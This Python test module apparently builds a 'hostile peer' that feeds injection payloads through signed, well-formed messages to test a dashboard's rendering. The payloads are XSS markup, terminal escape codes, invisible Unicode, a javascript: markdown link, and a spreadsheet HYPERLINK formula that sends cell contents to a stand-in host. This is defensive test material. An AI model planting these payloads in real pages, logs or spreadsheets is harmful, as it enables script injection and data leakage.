"""A peer that does what it may, with texts that it should not: `python -m tests.dashboard.hostile_peer ADDRESS`.

It is the other peer of tests/oracles with other items. Everything that it sends is within its bounds, signed and
well formed, so it arrives; the names, models, programs and answers in it are made to act where they are shown.
"""

from __future__ import annotations

from typing import Any

from tests.oracles import other_peer

MARK = "window.owned"
"""Stands in every hostile text, so that a test can see that the text came through."""

ESCAPES = "\x1b[2J\x1b]0;title\x07\x1b[31m\x9b31m\x1bPq\x1b\\\x08\x7f\r"
UNSEEN = "\u202etxet\u2066\u200b\ufeff\u00ad\u034f\u3164\U000e0041"
MARKUP = (
    f"<script>{MARK}=1</script><img src=x onerror={MARK}=2><svg onload={MARK}=3></pre></td></title></style>"
    f"<a href='javascript:{MARK}=4'>x</a>\"' onmouseover={MARK}=5 <!-- &lt; ]]> ${{{MARK}=6}} {{{{7*7}}}}"
)
MARKDOWN = f"[{MARK}](javascript:{MARK}=8) ![x](http://192.0.2.1/x) **bold** | a | b |\n| - | - |\n# heading"
FORMULA = f'=HYPERLINK("http://192.0.2.1/?"&A1,"{MARK}")'
STACKED = "Z" + "\u0301" * 300
MODEL = f"{FORMULA}{ESCAPES}{UNSEEN}<img src=x onerror={MARK}=9>אבג"
TEXTS = (
    f"{MARKUP}{ESCAPES}{UNSEEN}\u2028end",
    f"{FORMULA}\t{MARKDOWN}\r\n",
    f"@{MARK} {STACKED} אבג {UNSEEN} {ESCAPES}",
    f"{MARK} " + "x" * 60_000,
)


def champion(number: int) -> str:
    return f"{TEXTS[number % len(TEXTS)]} {number}"


def group(author: str, epoch: int, counter: int) -> list[Any]:
    """A question that holds, with hostile answers, some of them right; every fourth has a hostile name too."""
    task, question, completions, _ = honest_group(author, epoch, counter)
    right = completions[0][0]
    texts = [
        f"{text[:50_000]}<answer>{right if place % 2 else text[:9]}</answer>"
        for place, text in enumerate(TEXTS)
    ]
    if counter % 4 == 3:
        family = (f"{MARKUP}{ESCAPES}", "sums", "sums", "sums")[counter // 4 % 4][:128]
        version = ("1", f"{MARK}{ESCAPES}{UNSEEN}", "1", "1")[counter // 4 % 4][:64]
        parameters = ("{}", "{}", f'{{"{MARK}=10":"<b>"}}', f"{MARKUP}{ESCAPES}")[counter // 4 % 4]
        task = [family, version, parameters, counter]
    return [task, question, [[text, True, []] for text in texts], MODEL[:256], f"<i>{MARK}{ESCAPES}"[:64]]


honest_group = other_peer.rollout_group

if __name__ == "__main__":
    other_peer.rollout_group = group
    other_peer.DOMAIN, other_peer.MODEL, other_peer.program = "texts", MODEL[:256], champion
    other_peer.main()
